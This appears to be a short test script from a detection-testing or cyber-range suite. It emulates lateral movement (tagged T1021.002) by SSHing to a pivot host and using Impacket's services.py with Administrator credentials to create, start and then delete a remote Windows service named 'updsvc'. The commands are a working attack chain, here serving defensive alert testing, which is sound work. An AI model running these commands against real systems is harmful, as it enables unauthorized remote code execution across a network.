# SPDX-License-Identifier: Apache-2.0
# what: ws1 logs in to ws2 by ssh, and from there a service is created and started on win1
# technique: T1021.002
# from: ws1
# to: win1
# accused: ws1,ws2,win1
# account: Administrator
# outcome: success
# must: alert chain
. "$RANGE_HERE/item.sh"
ssh="ssh -F $HOME/.ssh/config -i $HOME/.ssh/id_ed25519 root@$ws2"
services="/usr/bin/python3 $IMPACKET/services.py CORP/Administrator:$ADMIN_PASSWORD@$win1"
$ssh "$services create -name updsvc -display updsvc -path 'C:\\Windows\\updater.exe' && $services start -name updsvc"
status=$?
$ssh "$services delete -name updsvc" || true
exit $status
